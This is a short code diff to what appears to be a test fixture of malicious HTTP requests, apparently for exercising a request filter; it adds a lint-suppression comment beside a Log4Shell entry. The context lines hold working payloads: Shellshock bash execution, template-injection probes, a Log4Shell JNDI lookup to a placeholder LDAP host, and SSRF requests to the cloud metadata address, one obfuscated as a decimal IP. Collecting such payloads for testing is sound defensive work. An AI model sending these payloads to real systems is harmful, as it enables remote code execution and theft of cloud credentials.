@@ -30,6 +30,7 @@ export const MALICIOUS_REQUESTS: Named = {
   Shellshock: 'GET / HTTP/1.1\nUser-Agent: () { :;}; /bin/bash -c "id"\n\n',
   'template: arithmetic': get('/?name=%7B%7B7*7%7D%7D'),
   'template: reaches for the host': "{{''.__class__.__mro__[1].__subclasses__()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
   Log4Shell: 'GET / HTTP/1.1\nUser-Agent: ${${lower:j}ndi:ldap://198.51.100.7/a}\n\n',
   metadata: get('/fetch?url=http://169.254.169.254/latest/meta-data/'),
   'metadata as a number': get('/fetch?url=http://2852039166/latest/meta-data/'),
